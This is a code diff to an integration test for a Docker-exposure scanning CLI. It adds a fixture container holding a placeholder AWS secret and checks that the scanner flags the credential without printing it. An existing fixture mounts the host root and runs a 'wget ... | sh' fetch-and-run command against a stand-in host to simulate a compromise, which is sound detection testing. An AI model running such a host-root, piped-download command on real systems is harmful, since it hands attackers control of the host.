@@ -34,17 +34,19 @@ beforeAll(async () => {
   anyTls = await expose('tls-any-client', lab.socketPath, '127.31.0.2', 2376);
   mtls = await expose('mtls', lab.socketPath, '127.31.0.3', 2376);
   pit = await tarpit('127.31.0.9', 2375);
-  docker(lab, ['rm', '-f', 'pcl-scan-miner']);
+  for (const n of ['pcl-scan-miner', 'pcl-scan-keys']) docker(lab, ['rm', '-f', n]);
+  docker(lab, ['create', '--name', 'pcl-scan-keys', '--label', 'pcl-scan=1', '--network', 'none', '-e', 'AWS_SECRET_ACCESS_KEY=pcl-scan-not-a-real-key-0123',
+    'alpine:latest', 'true']);
   docker(lab, ['create', '--name', 'pcl-scan-miner', '--label', 'pcl-scan=1', '--network', 'none', '-v', '/:/mnt', 'alpine:latest',
     'chroot', '/mnt', 'sh', '-c', 'wget -qO- http://example.invalid/x.sh | sh']);
 }, 300_000);
 afterAll(async () => {
   await Promise.all([plain, anyTls, mtls, pit].filter(Boolean).map((e) => e.close()));
-  try { docker(lab, ['rm', '-f', 'pcl-scan-miner']); } catch { /* already gone */ }
+  for (const n of ['pcl-scan-miner', 'pcl-scan-keys']) try { docker(lab, ['rm', '-f', n]); } catch { /* already gone */ }
   rmSync(dir, { recursive: true, force: true });
 });
 
-type Doc = { results: { host: string; port: number; state: string; ruleId?: string; deep?: { compromise: { title: string; subject: string }[] } }[];
+type Doc = { results: { host: string; port: number; state: string; ruleId?: string; deep?: { compromise: { ruleId: string; title: string; subject: string }[] } }[];
   summary: { endpoints: number; exposed: number; byState: Record<string, number>; interrupted: boolean;
     changes?: { new: unknown[]; gone: { host: string; port: number }[]; changed: unknown[] } } };
 
@@ -123,6 +125,10 @@ describe('portcullis scan (built CLI)', () => {
     const signs = doc.results[0]!.deep!.compromise.filter((s) => s.subject.includes('pcl-scan-miner'));
     expect(signs.length).toBeGreaterThan(0);
     expect(signs.map((s) => s.title).join(' ')).toMatch(/root|chroot|pipe|shell/i);
+    // Credentials the open API hands out are named, never shown.
+    const keys = doc.results[0]!.deep!.compromise.filter((s) => s.subject.includes('pcl-scan-keys'));
+    expect(keys).toMatchObject([{ ruleId: 'PCL-CFG-036', title: 'Credential in the container environment' }]);
+    expect(r.stdout).not.toContain('pcl-scan-not-a-real-key');
   });
 
   it('flushes partial results and exits 130 on Ctrl-C', async () => {
